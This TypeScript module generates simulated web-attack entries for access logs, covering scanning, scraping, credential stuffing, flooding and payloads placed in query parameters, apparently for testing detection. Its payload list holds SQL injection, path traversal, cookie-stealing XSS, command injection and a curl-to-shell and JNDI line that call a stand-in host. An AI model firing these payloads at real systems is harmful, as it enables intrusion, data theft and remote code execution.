/**
 * Attacks on a site: looking for what should not be there, copying, trying passwords and payloads, sheer numbers.
 *
 * @module
 */
import { below, exponential, pick, type Random } from '../generate/draw.ts'
import { scanner } from '../generate/hostile.ts'
import { combinedLine, stampOf, type Request } from '../generate/request.ts'
import { strangerAddress } from '../generate/week/places.ts'
import {
  doubling,
  injectedLines,
  type AttackKind,
  type Injected,
  type InjectedLine,
  type Place,
} from './attack-kind.ts'

const browser =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36'

const lineOf = (timeMs: number, request: Request): InjectedLine => ({
  timeMs,
  text: combinedLine(stampOf(Math.floor(timeMs / 1000)), request),
})

const plain = (client: string, target: string, status: number, bytes: number): Request => ({
  client,
  method: 'GET',
  target,
  http: '1.1',
  status,
  bytes,
  referrer: '-',
  agent: browser,
})

/** So many requests, each so many seconds after the one before, give or take. */
const paced = (
  place: Place,
  count: number,
  gapS: number,
  make: (client: string, n: number) => Request,
): Injected => {
  const client = strangerAddress(place.number)
  let atMs = place.startMs
  const lines = Array.from({ length: count }, (_, n) => {
    atMs += exponential(place.random, gapS * 1000)
    return lineOf(atMs, make(client, n))
  })
  return injectedLines([client], place.startMs, lines)
}

/** What the generator's scanner asks for: one request at a time, whatever its pace was meant to be. */
const probes = (random: Random, client: string, count: number): Request[] => {
  const requests: Request[] = []
  const actor = scanner(random, { client, requests: count, gapS: 1 })
  while (actor(0, (request) => requests.push(request)) !== undefined);
  return requests
}

const payloads = [
  "1'%20OR%20'1'='1",
  '1%20UNION%20SELECT%20null,user(),version()--%20-',
  "admin'--",
  '1;WAITFOR%20DELAY%20%270:0:5%27--',
  '..%2F..%2F..%2F..%2Fetc%2Fpasswd',
  '....//....//....//windows/win.ini',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E',
  ';cat%20/etc/passwd',
  '$(curl%20http://203.0.113.9/x.sh%7Csh)',
  '%7B%7B7*7%7D%7D',
  '${jndi:ldap://203.0.113.9/a}',
  'php://filter/convert.base64-encode/resource=index.php',
  "1'%20AND%20SLEEP(5)%20AND%20'1'='1",
] as const

const parameters = ['id', 'q', 'page', 'file', 'user', 'lang'] as const

const pathAt = ({ scene }: Place, n: number): string =>
  scene.paths[n % Math.max(1, scene.paths.length)] ?? '/'

export const webAttacks: readonly AttackKind[] = [
  {
    id: 'web-scanner',
    title: 'A scanner, 5 requests a minute',
    medium: 'access',
    dose: { unit: 'requests', values: doubling(4, 7) },
    inject: (dose, place) => {
      const requests = probes(place.random, strangerAddress(place.number), dose)
      return paced(place, dose, 12, (client, n) => requests[n] ?? plain(client, '/', 404, 512))
    },
  },
  {
    id: 'web-scraper',
    title: 'A scraper, a page every 10 s',
    medium: 'access',
    dose: { unit: 'pages', values: doubling(16, 7) },
    inject: (dose, place) => {
      const first = below(place.random, 100_000)
      return paced(place, dose, 10, (client, n) =>
        plain(client, pathAt(place, first + n), 200, 9000 + below(place.random, 9000)),
      )
    },
  },
  {
    id: 'web-payloads',
    title: 'Payloads in parameters, one every 5 s',
    medium: 'access',
    dose: { unit: 'requests', values: doubling(1, 6) },
    inject: (dose, place) =>
      paced(place, dose, 5, (client) => {
        const target = `${pathAt(place, below(place.random, 50))}?${pick(place.random, parameters)}=${pick(place.random, payloads)}`
        return plain(
          client,
          target,
          pick(place.random, [200, 200, 403, 404, 500]),
          3000 + below(place.random, 5000),
        )
      }),
  },
  {
    id: 'web-login-stuffing',
    title: 'Stolen passwords tried at a login form, one every 3 s',
    medium: 'access',
    dose: { unit: 'attempts', values: doubling(8, 6) },
    inject: (dose, place) =>
      paced(place, dose, 3, (client) => {
        const got = place.random() < 0.005
        return { ...plain(client, '/account/login', got ? 302 : 401, 1840), method: 'POST' }
      }),
  },
  {
    id: 'web-flood',
    title: 'A flood of one page, within a minute',
    medium: 'access',
    dose: { unit: 'requests', values: doubling(120, 7) },
    inject: (dose, place) => {
      const target = pathAt(place, below(place.random, 20))
      return paced(place, dose, 60 / dose, (client) =>
        plain(client, target, place.random() < 0.9 ? 200 : 503, 9000),
      )
    },
  },
]
